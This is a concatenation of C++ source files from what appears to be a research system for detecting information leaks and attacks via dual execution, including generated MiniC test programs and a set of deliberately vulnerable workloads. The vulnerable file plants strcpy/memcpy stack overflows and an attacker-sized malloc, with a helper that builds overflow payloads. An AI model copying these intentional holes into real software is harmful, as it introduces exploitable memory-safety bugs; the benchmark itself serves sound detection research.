                int fd4 = open("/data.bin", 0);
                char t4[8];
                int r4 = read(fd4, t4, 7);
                acc = acc + r4 + t4[(acc) & 7];
                close(fd4);
            }
        }
    }
    {
        int s5 = socket();
        connect(s5, "feed.example.com");
        char rb5[16];
        int r5 = recv(s5, rb5, 15);
        acc = acc + r5;
        if (r5 > 0) { acc = acc + rb5[(acc) & 15]; }
        close(s5);
    }
    {
        int fd6 = open("/data.bin", 0);
        char t6[8];
        int r6 = read(fd6, t6, 7);
        acc = acc + r6 + t6[(acc) & 7];
        close(fd6);
    }
    if (((((inputv[24] - acc) + acc)) & 1) == 0) {
        {
            int t7_0 = spawn(&worker1, ((inputv[20] % 87)) & 7);
            int t7_1 = spawn(&worker0, ((inputv[15] - inputv[37])) & 7);
            join(t7_0);
            join(t7_1);
            acc = acc + shared0 + shared1;
        }
        acc = ((inputv[44] >> 3) & 250);
        if (((inputv[23]) & 1) == 0) {
            {
                fn f8 = &helper1;
                acc = acc + f8((shared1) & 63);
            }
            {
                int fd9 = open("/data.bin", 0);
                char t9[8];
                int r9 = read(fd9, t9, 7);
                acc = acc + r9 + t9[(79) & 7];
                close(fd9);
            }
            acc = acc + rec1(inputv[26] & 7);
            {
                fn f10 = &helper1;
                acc = acc + f10(((inputv[12] ^ (acc ^ 48))) & 63);
            }
        } else {
            acc = acc ^ (random() % 1000);
            acc = arr[4];
            {
                int s11 = socket();
                connect(s11, "sink.example.com");
                itoa(acc & 4095, scratch);
                send(s11, scratch, strlen(scratch));
                close(s11);
            }
            {
                int s12 = socket();
                connect(s12, "feed.example.com");
                char rb12[16];
                int r12 = recv(s12, rb12, 15);
                acc = acc + r12;
                if (r12 > 0) { acc = acc + rb12[(acc) & 15]; }
                close(s12);
            }
        }
        if ((((acc * 5) - (inputv[18] & 183))) < (arr[0])) {
            acc = acc + arr[(((5 * 5) ^ acc)) & 15];
            {
                int s13 = socket();
                connect(s13, "feed.example.com");
                char rb13[16];
                int r13 = recv(s13, rb13, 15);
                acc = acc + r13;
                if (r13 > 0) { acc = acc + rb13[(78) & 15]; }
                close(s13);
            }
            {
                int s14 = socket();
                connect(s14, "feed.example.com");
                char rb14[16];
                int r14 = recv(s14, rb14, 15);
                acc = acc + r14;
                if (r14 > 0) { acc = acc + rb14[(acc) & 15]; }
                close(s14);
            }
            {
                int *p15 = &acc;
                *p15 = *p15 ^ 18;
            }
        } else {
            {
                char *m16 = malloc(16);
                memset(m16, (acc) & 255, 16);
                m16[(shared1) & 15] = ((inputv[1] + (arr[7] ^ arr[8]))) & 127;
                acc = acc + m16[(((acc + 54) & 134)) & 15];
                free(m16);
            }
            {
                int s17 = socket();
                connect(s17, "sink.example.com");
                itoa(acc & 4095, scratch);
                send(s17, scratch, strlen(scratch));
                close(s17);
            }
        }
    }
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
        {
            "s134",
            134,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 5;
        unlock(0);
        yield();
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    acc = acc;
    acc = (acc & 127);
    acc = (9 >> 4);
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper1(int p) {
    int save = acc;
    acc = p;
    {
        int fd0 = open("/out1.log", 2);
        itoa(acc & 65535, scratch);
        write(fd0, scratch, strlen(scratch));
        close(fd0);
    }
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    if ((acc) % 5 == 1) {
        {
            int fd1 = open("/out2.log", 2);
            itoa(acc & 65535, scratch);
            write(fd1, scratch, strlen(scratch));
            close(fd1);
        }
        {
            int d2 = 3;
            do {
                acc = acc ^ (rdtsc() & 255);
                acc = ((38 - acc) % 4);
                d2 = d2 - 1;
            } while (d2 > 0);
        }
        acc = ((acc - acc) * 3);
        {
            int t3_0 = spawn(&worker0, (arr[14]) & 7);
            join(t3_0);
            acc = acc + shared0 + shared1;
        }
    }
    {
        int t4_0 = spawn(&worker0, (((inputv[33] + inputv[10]) >> 1)) & 7);
        int t4_1 = spawn(&worker0, ((inputv[0] % 96)) & 7);
        join(t4_0);
        join(t4_1);
        acc = acc + shared0 + shared1;
    }
    {
        int *p5 = arr + ((((acc ^ acc) % 93)) & 15);
        *p5 = *p5 + 16;
        acc = acc + *p5;
    }
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
        {
            "s183",
            183,
            R"__corpus__(char inputv[64];
int acc;
int arr[16];
char scratch[32];
int shared0;
int shared1;

int worker0(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(0);
        shared0 = shared0 + p + k + 17;
        unlock(0);
        k = k + 1;
    }
    return 0;
}

int worker1(int p) {
    int k = 0;
    while (k < (p & 3) + 1) {
        lock(1);
        shared1 = shared1 + p + k + 15;
        unlock(1);
        k = k + 1;
    }
    return 0;
}

int rec1(int n) {
    if (n <= 0) { return 0; }
    time();
    return n + rec2(n - 1);
}

int rec2(int n) {
    if (n <= 0) { return 1; }
    return n + rec1(n - 2);
}

int helper0(int p) {
    int save = acc;
    acc = p;
    {
        int fd0 = open("/out1.log", 1);
        itoa(acc & 65535, scratch);
        write(fd0, scratch, strlen(scratch));
        close(fd0);
    }
    acc = (inputv[34] >> 1);
    acc = acc ^ (random() % 1000);
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper1(int p) {
    int save = acc;
    acc = p;
    acc = ((arr[5] >> 2) ^ (acc >> 4));
    int r = acc;
    acc = save;
    return r % 1000;
}

int helper2(int p) {
    int save = acc;
    acc = p;
    acc = acc + rec1(inputv[6] & 7);
    acc = acc + rec1(inputv[34] & 7);
    int r = acc;
    acc = save;
    return r % 1000;
}

int main() {
    {
        int fd = open("/input.txt", 0);
        int n = read(fd, inputv, 63);
        close(fd);
        acc = n;
    }
    acc = acc + helper1((((89 * 1) & 23)) & 63);
    if (inputv[2] > 93) {
        acc = acc;
        acc = acc + time() % 7;
    } else {
        acc = acc + rec1(inputv[1] & 7);
        acc = acc + rec2(inputv[18] & 7);
        acc = acc + rec1(inputv[21] & 7);
    }
    {
        int t1_0 = spawn(&worker1, (((shared0 - 11) & 58)) & 7);
        int t1_1 = spawn(&worker1, (((shared0 & 175) ^ (shared1 + acc))) & 7);
        join(t1_0);
        join(t1_1);
        acc = acc + shared0 + shared1;
    }
    {
        itoa(acc % 100000, scratch);
        int s = socket();
        connect(s, "sink.example.com");
        send(s, scratch, strlen(scratch));
    }
    return 0;
}

)__corpus__",
        },
    };
    return entries;
}

} // namespace ldx::workloads
