/**
 * @file
 * Vulnerable workloads (the attack-detection set of Table 1). Each
 * carries a real memory-safety defect our VM expresses natively:
 * stack buffers sit below the guest-memory return token, so MiniC
 * overflows smash control state exactly like native stack smashing,
 * and attacker-controlled malloc sizes model integer overflows. The
 * sinks are the paper's: function return addresses and the parameters
 * of memory-management calls.
 */
#include "workloads/workloads.h"

#include "support/prng.h"

namespace ldx::workloads {

namespace {

using core::SourceSpec;

core::SinkConfig
attackSinks()
{
    core::SinkConfig s;
    s.net = false;
    s.file = false;
    s.console = false;
    s.retTokens = true;
    s.allocSizes = true;
    return s;
}

/** Exploit payload: filler, then @p token_bytes at the token slot. */
std::string
overflowPayload(std::size_t buf_len, const std::string &token_bytes,
                std::size_t total)
{
    std::string p(total, 'A');
    for (std::size_t i = 0; i < token_bytes.size() &&
                            buf_len + i < p.size();
         ++i)
        p[buf_len + i] = token_bytes[i];
    return p;
}

// ----------------------------------------------------------- gif2png
// Classic CVE-2009-5018 flavour: the GIF comment extension is copied
// into a fixed stack buffer with no bound check.
const char *kGif2png = R"(
int parseComment(char *data) {
    char comment[16];
    strcpy(comment, data);
    return strlen(comment);
}

int main() {
    char img[512];
    int fd = open("/input.gif", 0);
    int n = read(fd, img, 511);
    close(fd);
    img[n] = 0;
    if (img[0] != 'G' || img[1] != 'I' || img[2] != 'F') { return 2; }
    // Comment block starts after the 6-byte header.
    int len = parseComment(img + 6);
    char ob[16];
    itoa(len, ob);
    int out = open("/out.png", 1);
    write(out, ob, strlen(ob));
    close(out);
    return 0;
}
)";

Workload
makeGif2png()
{
    Workload w;
    w.name = "gif2png";
    w.category = Category::Vulnerable;
    w.description = "GIF comment strcpy stack overflow";
    w.source = kGif2png;
    w.world = [](int) {
        os::WorldSpec spec;
        spec.files["/input.gif"] =
            "GIF89a" + overflowPayload(16, "\x61\x62\x63\x64", 48);
        return spec;
    };
    // Mutate a byte inside the overflow region (a "data field" of the
    // exploit, §8 "Input Mutation").
    w.sources = {SourceSpec::file("/input.gif", 24)};
    w.sinks = attackSinks();
    w.mutationCases = {
        {"attack", {SourceSpec::file("/input.gif", 24)}, true},
    };
    return w;
}

// ----------------------------------------------------------- mp3info
// ID3-style tag: the attacker-controlled length field drives a
// memcpy into a fixed stack buffer.
const char *kMp3info = R"(
int readTitle(char *tag) {
    char title[24];
    int len = tag[0];
    memcpy(title, tag + 1, len);
    title[len] = 0;
    return strlen(title);
}

int main() {
    char mp3[512];
    int fd = open("/song.mp3", 0);
    int n = read(fd, mp3, 511);
    close(fd);
    if (mp3[0] != 'I' || mp3[1] != 'D' || mp3[2] != '3') { return 2; }
    int tl = readTitle(mp3 + 3);
    char ob[16];
    itoa(tl, ob);
    int out = open("/info.txt", 1);
    write(out, ob, strlen(ob));
    close(out);
    return 0;
}
)";

Workload
makeMp3info()
{
    Workload w;
    w.name = "mp3info";
    w.category = Category::Vulnerable;
    w.description = "ID3 length-field memcpy overflow";
    w.source = kMp3info;
    w.world = [](int) {
        os::WorldSpec spec;
        std::string tag;
        tag += static_cast<char>(80); // lies about the title length
        tag += overflowPayload(24, "wxyz", 96);
        spec.files["/song.mp3"] = "ID3" + tag;
        return spec;
    };
    w.sources = {SourceSpec::file("/song.mp3", 30)};
    w.sinks = attackSinks();
    w.mutationCases = {
        {"attack", {SourceSpec::file("/song.mp3", 30)}, true},
    };
    return w;
}

// ---------------------------------------------------------- prozilla
// Download client: the server's redirect location header is copied
// into a fixed stack buffer.
const char *kProzilla = R"(
int followRedirect(char *loc) {
    char target[20];
    strcpy(target, loc);
    return target[0];
}

int main() {
    char resp[512];
    int s = socket();
    if (connect(s, "dl.example.com") < 0) { return 1; }
    send(s, "GET /file", 9);
    int n = recv(s, resp, 511);
    close(s);
    resp[n] = 0;
    if (resp[0] == '3') { // 3xx redirect
        followRedirect(resp + 4);
    }
    print("done", 4);
    return 0;
}
)";

Workload
makeProzilla()
{
    Workload w;
    w.name = "prozilla";
    w.category = Category::Vulnerable;
    w.description = "redirect-header strcpy overflow in a downloader";
    w.source = kProzilla;
    w.world = [](int) {
        os::WorldSpec spec;
        spec.peers["dl.example.com"].responses = {
            "302 " + overflowPayload(20, "hijk", 64)};
        return spec;
    };
    w.sources = {SourceSpec::peer("dl.example.com", 30)};
    w.sinks = attackSinks();
    w.mutationCases = {
        {"attack", {SourceSpec::peer("dl.example.com", 30)}, true},
    };
    return w;
}

// ----------------------------------------------------------- yopsweb
// Tiny web server: the request path is copied into a fixed stack
// buffer before dispatch.
const char *kYopsweb = R"(
int dispatch(char *path) {
    char local[16];
    strcpy(local, path);
    if (local[0] == '/') { return 1; }
    return 0;
}

int main() {
    char req[512];
    int s = socket();
    listen(s, 8080);
    int served = 0;
    while (1) {
        int c = accept(s);
        if (c < 0) { break; }
        int n = recv(c, req, 511);
        req[n] = 0;
        if (n > 4) {
            dispatch(req + 4);
            send(c, "200 OK", 6);
        }
        close(c);
        served = served + 1;
    }
    return served;
}
)";

Workload
makeYopsweb()
{
    Workload w;
    w.name = "yopsweb";
    w.category = Category::Vulnerable;
    w.description = "request-path strcpy overflow in a web server";
    w.source = kYopsweb;
    w.world = [](int) {
        os::WorldSpec spec;
        spec.incoming.push_back(
            {"GET " + overflowPayload(16, "pqrs", 48)});
        return spec;
    };
    w.sources = {SourceSpec::incoming(21)};
    w.sinks = attackSinks();
    w.mutationCases = {
        {"attack", {SourceSpec::incoming(21)}, true},
    };
    return w;
}

// ------------------------------------------------------------ ngircd
// IRC server: the NICK argument is copied into a fixed stack buffer.
const char *kNgircd = R"(
int registerNick(char *arg) {
    char nick[12];
    strcpy(nick, arg);
    return strlen(nick);
}

int main() {
    char line[512];
    int s = socket();
    listen(s, 6667);
    int users = 0;
    while (1) {
        int c = accept(s);
        if (c < 0) { break; }
        int n = recv(c, line, 511);
        line[n] = 0;
        if (line[0] == 'N' && line[1] == 'I' && line[2] == 'C' &&
            line[3] == 'K' && line[4] == ' ') {
            registerNick(line + 5);
            send(c, "001 welcome", 11);
            users = users + 1;
        }
        close(c);
    }
    return users;
}
)";

Workload
makeNgircd()
{
    Workload w;
    w.name = "ngircd";
    w.category = Category::Vulnerable;
    w.description = "NICK argument strcpy overflow in an IRC server";
    w.source = kNgircd;
    w.world = [](int) {
        os::WorldSpec spec;
        spec.incoming.push_back(
            {"NICK " + overflowPayload(12, "mnop", 40)});
        return spec;
    };
    w.sources = {SourceSpec::incoming(22)};
    w.sinks = attackSinks();
    w.mutationCases = {
        {"attack", {SourceSpec::incoming(22)}, true},
    };
    return w;
}

// ---------------------------------------------------------- gzip-like
// Integer overflow: an attacker-controlled element count multiplies
// into the allocation size (the paper's "parameters of memory
// management functions" sink).
const char *kGzipAlloc = R"(
int main() {
    char hdr[64];
    int fd = open("/archive.gz", 0);
    int n = read(fd, hdr, 63);
    close(fd);
    hdr[n] = 0;
    if (hdr[0] != 0x1f) { return 2; }
    // Element count is a decimal field at offset 1.
    int count = atoi(hdr + 1);
    char *table = malloc(count * 16);
    for (int i = 0; i < 8; i = i + 1) { table[i] = hdr[i]; }
    print("ok", 2);
    return 0;
}
)";

Workload
makeGzipAlloc()
{
    Workload w;
    w.name = "gzip-alloc";
    w.category = Category::Vulnerable;
    w.description = "attacker-controlled malloc size (integer overflow)";
    w.source = kGzipAlloc;
    w.world = [](int) {
        os::WorldSpec spec;
        std::string hdr;
        hdr += static_cast<char>(0x1f);
        hdr += "524288";
        hdr += std::string(16, 'D');
        spec.files["/archive.gz"] = hdr;
        return spec;
    };
    w.sources = {SourceSpec::file("/archive.gz", 1)};
    w.sinks = attackSinks();
    w.mutationCases = {
        {"attack", {SourceSpec::file("/archive.gz", 1)}, true},
    };
    return w;
}

} // namespace

std::vector<Workload>
vulnerableWorkloads()
{
    return {makeGif2png(), makeMp3info(), makeProzilla(), makeYopsweb(),
            makeNgircd(), makeGzipAlloc()};
}

} // namespace ldx::workloads
