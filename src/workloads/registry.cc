/**
 * @file
 * Corpus registry and compiled-module cache.
 */
#include "workloads/workloads.h"

#include <map>
#include <mutex>

#include "instrument/instrument.h"
#include "lang/compiler.h"
#include "support/diag.h"

namespace ldx::workloads {

const char *
categoryName(Category c)
{
    switch (c) {
      case Category::Spec: return "spec";
      case Category::NetSys: return "net/sys";
      case Category::Vulnerable: return "vulnerable";
      case Category::Concurrent: return "concurrent";
    }
    return "?";
}

const std::vector<Workload> &
allWorkloads()
{
    static const std::vector<Workload> corpus = [] {
        std::vector<Workload> all;
        for (auto &&group :
             {specWorkloads(), netsysWorkloads(), vulnerableWorkloads(),
              concurrentWorkloads()}) {
            for (auto &w : group)
                all.push_back(w);
        }
        return all;
    }();
    return corpus;
}

std::vector<const Workload *>
workloadsIn(Category c)
{
    std::vector<const Workload *> out;
    for (const Workload &w : allWorkloads()) {
        if (w.category == c)
            out.push_back(&w);
    }
    return out;
}

const Workload *
findWorkload(const std::string &name)
{
    for (const Workload &w : allWorkloads()) {
        if (w.name == name)
            return &w;
    }
    return nullptr;
}

const ir::Module &
workloadModule(const Workload &w, bool instrumented)
{
    static std::mutex mutex;
    static std::map<std::pair<std::string, bool>,
                    std::unique_ptr<ir::Module>>
        cache;
    std::lock_guard<std::mutex> lock(mutex);
    auto key = std::make_pair(w.name, instrumented);
    auto it = cache.find(key);
    if (it == cache.end()) {
        auto module = lang::compileSource(w.source);
        if (instrumented) {
            instrument::CounterInstrumenter pass(*module);
            pass.run();
        }
        it = cache.emplace(key, std::move(module)).first;
    }
    return *it->second;
}

} // namespace ldx::workloads
