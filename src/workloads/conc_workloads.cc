/**
 * @file
 * Concurrent workloads (the Table 4 set): threaded programs whose
 * dual executions exercise thread pairing and lock-order sharing.
 * conc_x264 and conc_axel intentionally emit values derived from racy
 * counters / per-run connections — the residual tainted-sink
 * variation the paper reports for x264 and axel.
 */
#include "workloads/workloads.h"

#include "support/prng.h"

namespace ldx::workloads {

namespace {

using core::SourceSpec;

core::SinkConfig
fileAndConsoleSinks()
{
    core::SinkConfig s;
    s.net = false;
    s.file = true;
    s.console = true;
    return s;
}

// ------------------------------------------------------------- apache
// Worker pool: threads pull request indices from a shared queue under
// a lock, "handle" them, and bump shared statistics.
const char *kApache = R"(
int queue[64];
int qhead;
int qtail;
int handled;
int checksum;

int worker(int id) {
    while (1) {
        lock(1);
        int job = 0 - 1;
        if (qhead < qtail) {
            job = queue[qhead];
            qhead = qhead + 1;
        }
        unlock(1);
        if (job < 0) { return id; }
        int h = 0;
        for (int i = 0; i < 200; i = i + 1) {
            h = h * 31 + job * i;
        }
        lock(2);
        handled = handled + 1;
        checksum = checksum ^ (h % 65536);
        unlock(2);
    }
    return id;
}

int main() {
    char buf[128];
    int fd = open("/requests.txt", 0);
    int n = read(fd, buf, 64);
    close(fd);
    qhead = 0;
    qtail = 0;
    for (int i = 0; i < n; i = i + 1) {
        queue[qtail] = buf[i];
        qtail = qtail + 1;
    }
    int t1 = spawn(&worker, 1);
    int t2 = spawn(&worker, 2);
    int t3 = spawn(&worker, 3);
    join(t1);
    join(t2);
    join(t3);
    int out = open("/apache.log", 1);
    char b[24];
    itoa(handled, b);
    write(out, b, strlen(b));
    write(out, " ", 1);
    itoa(checksum, b);
    write(out, b, strlen(b));
    close(out);
    return 0;
}
)";

Workload
makeApache()
{
    Workload w;
    w.name = "apache";
    w.category = Category::Concurrent;
    w.description = "worker pool with a locked request queue";
    w.source = kApache;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x3001);
        std::string reqs;
        for (int i = 0; i < std::min(64, 16 * scale); ++i)
            reqs += static_cast<char>(1 + prng.below(120));
        spec.files["/requests.txt"] = reqs;
        return spec;
    };
    w.sources = {SourceSpec::file("/requests.txt", 2)};
    w.sinks = fileAndConsoleSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::file("/requests.txt", 2)}, true},
    };
    return w;
}

// ------------------------------------------------------------- pbzip2
// Parallel RLE: each thread compresses a fixed slice; the merge order
// is deterministic (slice index), so output is schedule independent.
const char *kPbzip = R"(
char input[4096];
char output[8192];
int inLen;
int outLen[4];
char chunk0[2048];
char chunk1[2048];
char chunk2[2048];
char chunk3[2048];

int compressSlice(int idx) {
    int per = inLen / 4 + 1;
    int from = idx * per;
    int to = from + per;
    if (to > inLen) { to = inLen; }
    int o = 0;
    int i = from;
    while (i < to) {
        char c = input[i];
        int run = 1;
        while (i + run < to && input[i + run] == c && run < 120) {
            run = run + 1;
        }
        if (idx == 0) { chunk0[o] = run; chunk0[o + 1] = c; }
        if (idx == 1) { chunk1[o] = run; chunk1[o + 1] = c; }
        if (idx == 2) { chunk2[o] = run; chunk2[o + 1] = c; }
        if (idx == 3) { chunk3[o] = run; chunk3[o + 1] = c; }
        o = o + 2;
        i = i + run;
    }
    lock(9);
    outLen[idx] = o;
    unlock(9);
    return o;
}

int main() {
    int fd = open("/input.dat", 0);
    inLen = read(fd, input, 4096);
    close(fd);
    int t1 = spawn(&compressSlice, 1);
    int t2 = spawn(&compressSlice, 2);
    int t3 = spawn(&compressSlice, 3);
    compressSlice(0);
    join(t1);
    join(t2);
    join(t3);
    int o = 0;
    for (int i = 0; i < outLen[0]; i = i + 1) {
        output[o] = chunk0[i]; o = o + 1;
    }
    for (int i = 0; i < outLen[1]; i = i + 1) {
        output[o] = chunk1[i]; o = o + 1;
    }
    for (int i = 0; i < outLen[2]; i = i + 1) {
        output[o] = chunk2[i]; o = o + 1;
    }
    for (int i = 0; i < outLen[3]; i = i + 1) {
        output[o] = chunk3[i]; o = o + 1;
    }
    int out = open("/out.rle", 1);
    write(out, output, o);
    close(out);
    return 0;
}
)";

Workload
makePbzip()
{
    Workload w;
    w.name = "pbzip2";
    w.category = Category::Concurrent;
    w.description = "parallel compressor with deterministic merge";
    w.source = kPbzip;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x3002);
        std::string data;
        for (int i = 0; i < 80 * scale; ++i)
            data += std::string(prng.below(12) + 1,
                                static_cast<char>('a' + prng.below(5)));
        spec.files["/input.dat"] = data.substr(0, 4000);
        return spec;
    };
    w.sources = {SourceSpec::file("/input.dat", 7)};
    w.sinks = fileAndConsoleSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::file("/input.dat", 7)}, true},
    };
    return w;
}

// --------------------------------------------------------------- pigz
// Like pbzip2, but the workers also bump a shared block counter under
// a lock; the counter value is part of the trailer.
const char *kPigz = R"(
char input[4096];
int inLen;
int blocks;
int totalOut;

int worker(int idx) {
    int per = inLen / 2 + 1;
    int from = idx * per;
    int to = from + per;
    if (to > inLen) { to = inLen; }
    int i = from;
    int o = 0;
    while (i < to) {
        char c = input[i];
        int run = 1;
        while (i + run < to && input[i + run] == c && run < 100) {
            run = run + 1;
        }
        o = o + 2;
        i = i + run;
        lock(3);
        blocks = blocks + 1;
        unlock(3);
    }
    lock(3);
    totalOut = totalOut + o;
    unlock(3);
    return o;
}

int main() {
    int fd = open("/input.dat", 0);
    inLen = read(fd, input, 4096);
    close(fd);
    int t = spawn(&worker, 1);
    worker(0);
    join(t);
    int out = open("/out.gz", 1);
    char b[24];
    itoa(totalOut, b);
    write(out, b, strlen(b));
    write(out, "/", 1);
    itoa(blocks, b);
    write(out, b, strlen(b));
    close(out);
    return 0;
}
)";

Workload
makePigz()
{
    Workload w;
    w.name = "pigz";
    w.category = Category::Concurrent;
    w.description = "parallel compressor with a locked block counter";
    w.source = kPigz;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x3003);
        std::string data;
        for (int i = 0; i < 70 * scale; ++i)
            data += std::string(prng.below(10) + 1,
                                static_cast<char>('m' + prng.below(6)));
        spec.files["/input.dat"] = data.substr(0, 4000);
        return spec;
    };
    w.sources = {SourceSpec::file("/input.dat", 9)};
    w.sinks = fileAndConsoleSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::file("/input.dat", 9)}, true},
    };
    return w;
}

// --------------------------------------------------------------- axel
// Parallel downloader: each thread fetches a stream from its own
// peer; the per-run connection behaviour makes some sink bytes vary
// run to run (the paper's explanation for axel's variation).
const char *kAxel = R"(
int progress;
int done;
int checksum;

int fetcher(int id) {
    char host[16];
    strcpy(host, "cdn0.example");
    host[3] = id + '0';
    char buf[1024];
    int s = socket();
    if (connect(s, host) < 0) { return 0; }
    send(s, "GET part", 8);
    int n = recv(s, buf, 1023);
    int got = 0;
    int sum = 0;
    while (n > 0) {
        got = got + n;
        progress = progress + n;
        for (int i = 0; i < n; i = i + 1) {
            sum = (sum * 31 + buf[i]) % 1000003;
        }
        n = recv(s, buf, 1023);
    }
    close(s);
    lock(5);
    done = done + 1;
    checksum = checksum ^ sum;
    unlock(5);
    return got;
}

int main() {
    int t1 = spawn(&fetcher, 1);
    int t2 = spawn(&fetcher, 2);
    int g0 = fetcher(0);
    int g1 = join(t1);
    int g2 = join(t2);
    int out = open("/download.meta", 1);
    char b[24];
    itoa(g0 + g1 + g2, b);
    write(out, b, strlen(b));
    write(out, " ", 1);
    itoa(progress, b);
    write(out, b, strlen(b));
    write(out, "#", 1);
    itoa(checksum, b);
    write(out, b, strlen(b));
    close(out);
    return 0;
}
)";

Workload
makeAxel()
{
    Workload w;
    w.name = "axel";
    w.category = Category::Concurrent;
    w.description = "parallel downloader with racy shared progress";
    w.source = kAxel;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x3004);
        for (int h = 0; h < 3; ++h) {
            os::PeerScript peer;
            for (int c = 0; c < 2 * scale; ++c) {
                std::string chunk;
                for (int k = 0; k < 200; ++k)
                    chunk += static_cast<char>('a' + prng.below(26));
                peer.responses.push_back(chunk);
            }
            spec.peers["cdn" + std::to_string(h) + ".example"] = peer;
        }
        return spec;
    };
    w.sources = {SourceSpec::peer("cdn0.example", 5)};
    w.sinks = fileAndConsoleSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::peer("cdn0.example", 5)}, true},
    };
    return w;
}

// --------------------------------------------------------------- x264
// Parallel encoder whose trailer includes a bits-per-tick statistic
// derived from the virtual clock — nondeterministic across runs and
// beyond the coupling's control (the paper's x264 explanation).
const char *kX264 = R"(
char frame[4096];
int frameLen;
int bits;
int epochs;

int encodeHalf(int idx) {
    int per = frameLen / 2 + 1;
    int from = idx * per;
    int to = from + per;
    if (to > frameLen) { to = frameLen; }
    int local = 0;
    for (int b = from; b + 8 <= to; b = b + 8) {
        // Racy epoch counter: unprotected read-modify-write with a
        // scheduling point inside the window. Lost updates depend on
        // the interleaving — the "bits per unit time" nondeterminism
        // the paper reports for x264.
        int e = epochs;
        if (b % 64 == 0) { yield(); }
        epochs = e + 1;
        int pred = 0;
        for (int i = 0; i < 8; i = i + 1) {
            pred = pred + frame[b + i];
        }
        pred = pred / 8;
        for (int i = 0; i < 8; i = i + 1) {
            int resid = frame[b + i] - pred;
            local = (local * 17 + resid + 256) % 1000003;
        }
    }
    // Unprotected read-modify-write with a yield in the window: a
    // real low-level race. Lost updates depend on the schedule, which
    // is exactly the residual nondeterminism the paper reports for
    // x264's statistics output.
    int snapshot = bits;
    yield();
    bits = snapshot + local;
    return local;
}

int main() {
    int fd = open("/frame.yuv", 0);
    frameLen = read(fd, frame, 4096);
    close(fd);
    int t0 = time();
    int t = spawn(&encodeHalf, 1);
    int b0 = encodeHalf(0);
    int b1 = join(t);
    int elapsed = time() - t0 + 1;
    int rate = (b0 + b1) / elapsed;
    int out = open("/x264.stats", 1);
    char b[24];
    itoa(b0 + b1, b);
    write(out, b, strlen(b));
    write(out, "@", 1);
    itoa(rate, b);
    write(out, b, strlen(b));
    write(out, "#", 1);
    itoa(epochs, b);
    write(out, b, strlen(b));
    close(out);
    return 0;
}
)";

Workload
makeX264()
{
    Workload w;
    w.name = "x264";
    w.category = Category::Concurrent;
    w.description = "parallel encoder with a bits-per-tick statistic";
    w.source = kX264;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x3005);
        spec.files["/frame.yuv"] = [&] {
            std::string s;
            for (int i = 0; i < std::min(4096, 1024 * scale); ++i)
                s += static_cast<char>(1 + prng.below(200));
            return s;
        }();
        return spec;
    };
    w.sources = {SourceSpec::file("/frame.yuv", 11)};
    w.sinks = fileAndConsoleSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::file("/frame.yuv", 11)}, true},
    };
    return w;
}

} // namespace

std::vector<Workload>
concurrentWorkloads()
{
    return {makeApache(), makePbzip(), makePigz(), makeAxel(),
            makeX264()};
}

} // namespace ldx::workloads
