/**
 * @file
 * The benchmark corpus: 28 MiniC programs in the four categories of
 * Table 1 — SPEC-like compute kernels, network/system programs for
 * information-leak detection, vulnerable programs for attack
 * detection, and concurrent programs for the concurrency-control
 * evaluation. Each workload bundles its program text, environment
 * builder, default mutation sources, sink configuration, and the
 * leak/no-leak mutation pair used by Table 2.
 */
#pragma once

#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "ir/ir.h"
#include "ldx/engine.h"
#include "ldx/mutation.h"
#include "os/world.h"

namespace ldx::workloads {

/** Corpus category (Table 1 groups). */
enum class Category
{
    Spec,        ///< compute kernels (SPECINT-like)
    NetSys,      ///< network/system programs (leak detection)
    Vulnerable,  ///< exploit-carrying programs (attack detection)
    Concurrent,  ///< threaded programs (Table 4)
};

/** Name of a category. */
const char *categoryName(Category c);

/** One named mutation experiment on a workload (Table 2 columns). */
struct MutationCase
{
    std::string label;
    std::vector<core::SourceSpec> sources;
    bool expectLeak = true; ///< ground truth for the mutation
};

/** One benchmark program. */
struct Workload
{
    std::string name;
    Category category = Category::Spec;
    std::string description;
    std::string source; ///< MiniC program text

    /** Environment for a given problem scale (>= 1). */
    std::function<os::WorldSpec(int scale)> world;

    /** Default sources to mutate (the "Mutated inputs" column). */
    std::vector<core::SourceSpec> sources;

    /** Sink configuration (net for network programs, file otherwise). */
    core::SinkConfig sinks;

    /** Table 2 mutation pair; may be a single case for numeric code. */
    std::vector<MutationCase> mutationCases;

    /** Default scale used by tests and benches. */
    int defaultScale = 1;
};

/** The full 28-program corpus. */
const std::vector<Workload> &allWorkloads();

/** Subset by category. */
std::vector<const Workload *> workloadsIn(Category c);

/** Lookup by name; nullptr when absent. */
const Workload *findWorkload(const std::string &name);

/**
 * Compile (and cache) a workload's module. When @p instrumented, the
 * counter pass is applied and the cached module is shared.
 */
const ir::Module &workloadModule(const Workload &w, bool instrumented);

// Category builders (one translation unit per category).
std::vector<Workload> specWorkloads();
std::vector<Workload> netsysWorkloads();
std::vector<Workload> vulnerableWorkloads();
std::vector<Workload> concurrentWorkloads();

} // namespace ldx::workloads
