/**
 * @file
 * The ldx virtual machine: a step-based interpreter for the IR with
